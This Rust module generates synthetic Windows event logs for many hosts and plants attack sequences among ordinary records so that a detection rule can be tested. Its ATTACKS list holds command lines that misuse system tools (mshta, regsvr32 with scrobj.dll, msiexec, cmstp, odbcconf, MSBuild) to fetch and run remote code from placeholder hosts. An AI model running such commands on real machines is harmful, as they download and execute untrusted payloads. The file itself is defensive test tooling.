//! Evidence in any amount: many hosts, ordinary proportions, attacks among them, streamed to disk file by file. The seed decides all; no clock is read.

use std::fs::{self, File};
use std::io::{self, BufWriter};
use std::path::Path;

use super::file::{EvtxWriter, FileOptions, Origin};
use super::foreign::ForeignLog;
use super::machine::Machine;
use super::record::SynthRecord;
use super::story::{Clocks, Expected, LIVE_LOG};
use super::sysmon::{Host, Process, later_ticks};
use crate::error::{Error, Result};
use crate::sysmon::schema::Layout;
use crate::time::{TICKS_PER_MILLI, Timestamp};

/// Ordinary events between an attack's start and its network event.
const ATTACK_PAUSE: u64 = 3;
/// Sysmon events that one attack needs around it.
const EVENTS_PER_ATTACK: u64 = 16;
/// Bytes gathered before they go to the disk.
const BUFFER: usize = 1 << 20;

/// How much evidence of what kind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoadOptions {
    /// Computers, at least one.
    pub hosts: u32,
    /// Records, of all providers.
    pub events: u64,
    /// The same seed makes the same evidence.
    pub seed: u64,
    /// Sequences that the built-in rule must find.
    pub attacks: u64,
    /// What Sysmon logs on these hosts.
    pub layout: Layout,
    /// Adds the Security, PowerShell and System logs: Sysmon's are then an eighth of all records.
    pub mixed: bool,
    /// Files per kind of log; one per host when `None`. With fewer files than hosts several hosts share a collector's file, with more each host's log
    /// is rotated.
    pub files: Option<u64>,
}

/// What was made.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Load {
    /// Files written.
    pub files: u64,
    /// Bytes written.
    pub bytes: u64,
    /// Records written, of all providers.
    pub records: u64,
    /// What the built-in rule must find, by either clock.
    pub attacks: Vec<Expected>,
}

/// A kind of log and its part of all records in a mixed collection, in eighths.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Sysmon,
    Foreign(ForeignLog),
}

const MIXTURE: [(Kind, u64); 4] = [
    (Kind::Sysmon, 1),
    (Kind::Foreign(ForeignLog::Security), 4),
    (Kind::Foreign(ForeignLog::PowerShell), 2),
    (Kind::Foreign(ForeignLog::System), 1),
];

impl Kind {
    fn file_name(self) -> &'static str {
        match self {
            Self::Sysmon => LIVE_LOG,
            Self::Foreign(ForeignLog::Security) => "Security.evtx",
            Self::Foreign(ForeignLog::PowerShell) => "Microsoft-Windows-PowerShell%4Operational.evtx",
            Self::Foreign(ForeignLog::System) => "System.evtx",
        }
    }
}

/// Writes evidence below the folder `out`, which may exist: a folder per host, or per collector where hosts share a file.
///
/// # Errors
/// [`Error::Usage`] when the numbers contradict each other, [`Error::Output`] when something cannot be written.
pub fn generate(options: &LoadOptions, out: &Path) -> Result<Load> {
    let kinds = if options.mixed { &MIXTURE[..] } else { &[(Kind::Sysmon, 8)][..] };
    let part = |eighths: u64| options.events.saturating_mul(eighths) / 8;
    check(options, part(kinds[0].1))?;
    let mut load = Load::default();
    for (number, (kind, eighths)) in (0_u64..).zip(kinds) {
        let events = part(*eighths);
        let attacks = if *kind == Kind::Sysmon { options.attacks } else { 0 };
        let files = options.files.unwrap_or(u64::from(options.hosts));
        let mut hosts: Vec<HostLoad> = (0..options.hosts)
            .map(|index| HostLoad::new(options, *kind, number, index, events, attacks))
            .collect();
        if files < u64::from(options.hosts) {
            write_shared(&mut hosts, *kind, files, out, &mut load)?;
        } else {
            for (index, host) in (0..).zip(&mut hosts) {
                write_rotated(host, *kind, share(files, options.hosts.into(), index), out, &mut load)?;
            }
        }
        load.attacks.extend(hosts.into_iter().flat_map(|host| host.completed));
    }
    Ok(load)
}

/// Refuses what cannot be made: each file needs a record, each attack room on its host.
fn check(options: &LoadOptions, sysmon_events: u64) -> Result<()> {
    let hosts = u64::from(options.hosts);
    let files = options.files.unwrap_or(hosts);
    if hosts == 0 || files == 0 {
        return Err(Error::Usage("at least one host and one file are needed".to_owned()));
    }
    if files > sysmon_events {
        return Err(Error::Usage(format!("{sysmon_events} Sysmon events do not fill {files} files")));
    }
    let needed = options.attacks.div_ceil(hosts).saturating_mul(EVENTS_PER_ATTACK);
    if needed > sysmon_events / hosts {
        let per_host = sysmon_events / hosts;
        let complaint =
            format!("{} attacks need {needed} Sysmon events on each host, not {per_host}", options.attacks);
        return Err(Error::Usage(complaint));
    }
    Ok(())
}

/// The `index`th of `parts` nearly equal parts of `total`.
fn share(total: u64, parts: u64, index: u64) -> u64 {
    total / parts + u64::from(index < total % parts)
}

/// Several hosts in a collector's file, in turn.
fn write_shared(hosts: &mut [HostLoad], kind: Kind, files: u64, out: &Path, load: &mut Load) -> Result<()> {
    let name = if kind == Kind::Sysmon { "ForwardedEvents.evtx" } else { kind.file_name() };
    for file in 0..files {
        let mut sharers: Vec<&mut HostLoad> = (0..files)
            .cycle()
            .zip(hosts.iter_mut())
            .filter(|(turn, _)| *turn == file)
            .map(|(_, host)| host)
            .collect();
        let mut turn = 0;
        write_file(out, &format!("collector{file:03}/{name}"), Origin::Export, load, &mut || {
            sharers.retain(|host| host.left > 0);
            let index = turn % sharers.len().max(1);
            turn = index + 1;
            sharers.get_mut(index).map(|host| host.next())
        })?;
    }
    Ok(())
}

/// One host's log in `parts` files: archives, then the live log.
fn write_rotated(host: &mut HostLoad, kind: Kind, parts: u64, out: &Path, load: &mut Load) -> Result<()> {
    let total = host.left;
    let folder = host.machine.host.computer.clone();
    for part in 0..parts {
        let mut left = share(total, parts, part);
        let name = if part + 1 == parts {
            kind.file_name().to_owned()
        } else {
            // Windows puts the time of the roll-over in the name; the part's number keeps it unique.
            let stem = kind.file_name().trim_end_matches(".evtx");
            format!(
                "Archive-{stem}-{}-{part:05}.evtx",
                host.machine.now.to_iso_millis().replace(['T', ':', '.', 'Z'], "-")
            )
        };
        write_file(out, &format!("{folder}/{name}"), Origin::Live, load, &mut || {
            left = left.checked_sub(1)?;
            Some(host.next())
        })?;
    }
    Ok(())
}

/// Writes what `next` gives into one file.
fn write_file(
    out: &Path,
    name: &str,
    origin: Origin,
    load: &mut Load,
    next: &mut dyn FnMut() -> Option<SynthRecord>,
) -> Result<()> {
    let path = out.join(name);
    let mut write = || -> io::Result<u64> {
        if let Some(folder) = path.parent() {
            fs::create_dir_all(folder)?;
        }
        let sink = BufWriter::with_capacity(BUFFER, File::create(&path)?);
        let mut writer = EvtxWriter::new(sink, FileOptions { origin, ..FileOptions::default() })?;
        while let Some(record) = next() {
            writer.push(&record)?;
            load.records += 1;
        }
        let mut sink = writer.finish()?;
        io::Seek::stream_position(&mut sink)
    };
    let bytes = write().map_err(|error| Error::output(&path, error))?;
    load.files += 1;
    load.bytes += bytes;
    Ok(())
}

/// One log of one host, still to be written.
struct HostLoad {
    machine: Machine,
    kind: Kind,
    written: u64,
    left: u64,
    /// Positions at which an attack starts, the next one last.
    starts: Vec<u64>,
    running: Option<Running>,
    completed: Vec<Expected>,
}

/// An attack whose network event is due at a position.
struct Running {
    due: u64,
    process: Process,
    start: u64,
}

/// Programs that an attack misuses, their command lines, and whether the network event is a DNS query.
const ATTACKS: &[(&str, &str, bool)] = &[
    (r"C:\Windows\System32\mshta.exe", "mshta.exe https://example.net/a.hta", false),
    (
        r"C:\Windows\System32\regsvr32.exe",
        "regsvr32.exe /s /u /i:https://cdn.example.net/a.sct scrobj.dll",
        true,
    ),
    (
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
        r"MSBuild.exe C:\Users\alice\a.csproj",
        false,
    ),
    (r"C:\Windows\System32\cmstp.exe", r"cmstp.exe /s C:\Users\alice\a.inf", false),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe /q /i https://packages.example.org/a.msi", true),
    (r"C:\Windows\System32\odbcconf.exe", r"odbcconf.exe /a {REGSVR C:\Users\alice\a.dll}", false),
];

impl HostLoad {
    fn new(options: &LoadOptions, kind: Kind, number: u64, index: u32, events: u64, attacks: u64) -> Self {
        let hosts = u64::from(options.hosts);
        let events = share(events, hosts, u64::from(index));
        let attacks = share(attacks, hosts, u64::from(index));
        let start = Timestamp::parse("2024-04-01T06:00:00Z").expect("this is RFC 3339");
        let start = later_ticks(start, i64::from(index) * 137 * TICKS_PER_MILLI);
        let host = Host::new(format!("host{index:04}.corp.example"), index, options.layout);
        let seed = options.seed.wrapping_add(u64::from(index) << 8 | number);
        Self {
            machine: Machine::new(host, start, 1_000, seed),
            kind,
            written: 0,
            left: events,
            starts: (0..attacks).rev().map(|attack| (attack * 2 + 1) * events / (attacks * 2)).collect(),
            running: None,
            completed: Vec::new(),
        }
    }

    fn next(&mut self) -> SynthRecord {
        let position = self.written;
        self.written += 1;
        self.left = self.left.saturating_sub(1);
        if let Kind::Foreign(log) = self.kind {
            return self.machine.foreign(log);
        }
        if let Some(running) = self.running.take_if(|running| running.due <= position) {
            return self.complete(&running);
        }
        match self.starts.last() {
            Some(due) if *due <= position => self.attack(position),
            _ => self.machine.ordinary(),
        }
    }

    fn attack(&mut self, position: u64) -> SynthRecord {
        self.starts.pop();
        self.machine.wait(50);
        let &(image, command_line, _) = self.machine.rng.pick(ATTACKS);
        let shell = self.machine.explorer();
        let process = self.machine.process(image, command_line, r"EXAMPLE\alice", Some(&shell));
        let record = self.machine.start(&process);
        self.running = Some(Running { due: position + ATTACK_PAUSE, process, start: record.record_id });
        record
    }

    fn complete(&mut self, running: &Running) -> SynthRecord {
        self.machine.wait(50);
        let by_name = ATTACKS.iter().any(|(image, _, by_name)| *by_name && running.process.image == *image);
        let record = if by_name && self.machine.host.layout >= Layout::Sysmon10 {
            self.machine.query(&running.process, "cdn.example.net", "::ffff:203.0.113.150;")
        } else {
            self.machine.connect(&running.process, "203.0.113.150", 443)
        };
        self.completed.push(Expected {
            host: record.computer.to_string(),
            process_name: running.process.name().to_owned(),
            process_guid: running.process.guid,
            start_record_id: running.start,
            network_record_id: record.record_id,
            event_id: record.event_id,
            clocks: Clocks::Both,
        });
        record
    }
}
